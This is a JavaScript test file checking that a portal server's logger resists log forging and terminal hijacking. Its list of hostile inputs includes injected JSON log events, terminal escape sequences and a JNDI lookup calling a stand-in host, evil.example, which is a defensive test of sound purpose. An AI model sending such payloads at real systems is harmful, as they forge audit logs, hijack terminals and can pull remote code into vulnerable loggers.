// Someone forges log lines, or takes over the terminal of their reader, by line breaks, escape sequences and JSON in
// what gets logged: URLs, identifiers, headers. Each line of the log stays one JSON object whose event and reason are
// ours. JSON does not escape the controls U+0080 to U+009F: that is left to the logger and its reader.
import t from 'tap'
import { recordOf, startHost } from '../helpers/host.ts'
import { wire } from '../helpers/wire.ts'
import { capture } from '../helpers/log.ts'

const forgeries = [
  '\n{"level":30,"event":"code_issued","reason":"ok","externalId":"admin"}', '\r\n{"event":"token_issued"}',
  '"}\n{"event":"token_issued","x":"', '\x1b[2J\x1b[1;31mroot', '\x1b]0;evil\x07', '\0', '\u2028\u2029', '\u202etxet',
  '\b\b\b\b', '","event":"user_information_returned","x":"', '$' + '{jndi:ldap://evil.example/a}', '%s%n%d%o%j',
  '\\u000a', '%0a%0d', 'a\u0085b', '\u009b31m'
]

t.test('each logged text is on one line', async (t) => {
  const log = capture()
  let [user, failure] = ['', '']
  const { url, events } = await startHost(t, {
    currentUser ({ headers: { 'x-user': id } }) {
      if (failure !== '') throw new Error(failure)
      return id === undefined ? null : { id: user, eligible: true }
    },
    portalEligibility: ({ id }) => recordOf(id)
  }, { server: { logger: log.logger, requestIdHeader: 'x-request-id' } })
  const portal = wire(url)

  for (const forgery of forgeries) {
    const encoded = encodeURIComponent(forgery)
    const names = ['user-agent', 'x-request-id', 'x-forwarded-for', 'accept']
    user = forgery
    await portal.authorize({ client_id: forgery, state: forgery, scope: forgery })
    await portal.authorize({ redirect_uri: forgery })
    await portal.authorize({ [forgery]: forgery, response_type: forgery })
    await portal.authorize({}, null, Object.fromEntries(names.map((name) => [name, encoded])))
    await portal.token({ client_id: forgery, client_secret: forgery, code: forgery })
    await portal.token({ code: forgery, grant_type: forgery })
    await portal.token({ code: await portal.code() })
    await portal.user(encoded)
    failure = forgery
    await portal.authorize()
    failure = ''
  }

  t.notMatch(log.text(), /[^\x20-\x7e\n\u0080-\uffff]/, 'no control character of ASCII but the line break')
  const lines = log.text().trimEnd().split('\n')
  t.notOk(lines.find((line) => line.split('"event":').length > 2), 'no two events in a line')
  const logged = lines.map((line) => JSON.parse(line)).filter(({ event }) => event !== undefined)
  t.strictSame(logged.map(({ event, reason }) => [event, reason]), events.map(({ type, reason }) => [type, reason]))
})
